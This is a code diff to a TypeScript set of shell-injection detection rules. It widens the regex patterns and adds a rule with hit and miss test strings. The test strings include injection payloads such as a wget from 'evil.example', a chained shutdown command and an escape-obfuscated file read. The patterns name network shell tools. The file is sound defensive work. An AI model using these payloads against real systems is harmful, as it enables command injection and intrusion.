@@ -4,9 +4,13 @@ import type { ArgumentRule } from './argument-rule.ts';
 
 /** Programs that a value which breaks out would start. */
 const PROGRAM =
-  '(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|python3?|perl|php|ruby|ping|sleep|nslookup|dig|rm|net|netstat|netsh|ifconfig|ipconfig|systeminfo|sysinfo|dir|type|echo|env|printenv|powershell|cmd|chmod|reboot|shutdown|kill|ps|pwd|ver|tasklist|route|phpinfo|system|telnet|certutil|bitsadmin|wmic|schtasks|rundll32|mshta|crontab|iptables|useradd|mkfifo|socat|hostname)';
+  '(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|python3?|perl|php|ruby|ping|sleep|nslookup|dig|rm|net|netstat|netsh|ifconfig|ipconfig|systeminfo|sysinfo|dir|type|echo|env|printenv|powershell|cmd|chmod|reboot|shutdown|kill|ps|pwd|ver|tasklist|route|phpinfo|system|telnet|certutil|bitsadmin|wmic|schtasks|rundll32|mshta|crontab|iptables|useradd|mkfifo|socat|hostname|touch|chown|sudo|killall)';
 /** Programs that somebody who got in starts to look around, or to learn whether he got in. */
 const PROBE = '(?:sleep|ping|whoami|id|uname|curl|wget|nslookup|dig|host|cat|ls|nc|hostname|ifconfig)';
+
+/** Words that command lines begin with. */
+const USUAL =
+  'make|git|npm|npx|yarn|pnpm|cd|ls|cat|echo|printf|docker|podman|kubectl|helm|sudo|apt|apt-get|yum|dnf|brew|pip3?|python3?|node|deno|bun|go|cargo|rustc|sync|true|false|test|export|set|mkdir|rm|cp|mv|touch|start|stop|build|run|sleep|wait|ps|df|date|pwd|exit|clear|reset|source|which|env|uname|tar|unzip|ssh|scp|find|grep|sed|awk|sort|head|tail|wc|du|top|kill|java|mvn|gradle|terraform|aws|gcloud|az|systemctl|service|curl|wget|ping|bash|sh|zsh|tea';
 
 export const SHELL_RULES: readonly ArgumentRule[] = [
   {
@@ -60,7 +64,7 @@ export const SHELL_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A value runs a command of its own to look around or to show that it ran.',
     pattern: new RegExp(
-      `(?:\\$\\(|(?:^\\s{0,4}|(?<=[=/;|&'"*]))\`)\\s{0,4}(?:/(?:usr/)?s?bin/)?${PROBE}(?:[)\`]|[\\s|;&][^\`\\n]{0,80}?[)\`])`,
+      `(?:\\$\\(|(?:^\\s{0,4}|(?<=[=/;|&'"*]|^\\w{1,40}))\`)\\s{0,4}(?:/(?:usr/)?s?bin/)?${PROBE}(?:[)\`]|[\\s|;&][^\`\\n]{0,80}?[)\`])`,
       'g',
     ),
     onlyInValue: 'shell',
@@ -79,7 +83,7 @@ export const SHELL_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'Words of a command are written in escapes or taken from pieces of other words.',
     pattern:
-      /(?:\\{1,2}x[0-9a-f]{2}){4}|(?:\\{1,2}[0-7]{3}){4}|\$'[^'\n]{0,40}\\x[0-9a-f]{2}|\$\{\w{1,30}:\d{1,3}:\d{1,3}\}|\$\{\w{1,30}\/\/[^}\n]{1,40}\}|\bxxd\s{1,4}-r\b|\bbase64\s{1,4}(?:-d|-D|--decode)\b[^|\n]{0,80}\|\s{0,4}(?:ba|z|da)?sh\b|<\(\s{0,4}(?:echo|curl|wget|printf)\s|\btr\s{1,4}'[!-/]-[^']{1,20}'\s/gi,
+      /(?:\\{1,2}x[0-9a-f]{2}){4}|(?:\\{1,2}[0-7]{3}){4}|\$'[^'\n]{0,40}\\x[0-9a-f]{2}|\$\{\w{1,30}:\d{1,3}:\d{1,3}\}|\$\{\w{1,30}\/\/[^}\n]{1,40}\}|\bxxd\s{1,4}-r\b|\bbase64\s{1,4}(?:-d|-D|--decode)\b[^|\n]{0,80}\|\s{0,4}(?:ba|z|da)?sh\b|<\(\s{0,4}(?:echo|curl|wget|printf)\s|\$\(\s{0,2}(?:printf|echo\s-e)\s['"]?\\x|\btr\s{1,4}'[!-/]-[^']{1,20}'\s/gi,
     onlyInValue: 'shell',
     hits: [
       'cat ${HOME:0:1}etc${HOME:0:1}hostname',
@@ -116,6 +120,25 @@ export const SHELL_RULES: readonly ArgumentRule[] = [
       'netsh wlan show profile',
       'id',
       'curl -sS https://acme.example/a.json | jq .',
+    ],
+  },
+  {
+    id: 'shell.word_then_command',
+    category: 'shell_injection',
+    severity: 'high',
+    weight: 4,
+    message: 'A plain word that no program is called, and then a command to look around or to do harm.',
+    pattern: new RegExp(
+      `^(?!(?:${USUAL})\\b)[\\w.@-]{1,40}\\s?(?:;|\\|{1,2}|&{1,2}|\\n)\\s{0,4}(?:sleep\\s\\d|shutdown\\b|reboot\\b|wget\\s|curl\\s|nc\\s|ncat\\s|whoami\\b|id\\s{0,2}(?:$|[;|&#])|uname\\b|rm\\s-rf\\s[/~*]|cat\\s/|ping\\s-|nslookup\\s|mkfifo\\s|chmod\\s|powershell\\b|python3?\\s-c|perl\\s-e|(?:ba|z)?sh\\s-c|ifconfig\\b|ipconfig\\b|net\\suser)`,
+      'gi',
+    ),
+    onlyInValue: 'shell',
+    hits: ['main; sleep 10 #', 'x || wget http://evil.example/m.sh', 'a\nwhoami', 'user; shutdown -h now'],
+    misses: [
+      'make; sleep 10',
+      'git pull && chmod +x run.sh',
+      'tea; curl up with a book',
+      'sync; shutdown now',
     ],
   },
   {
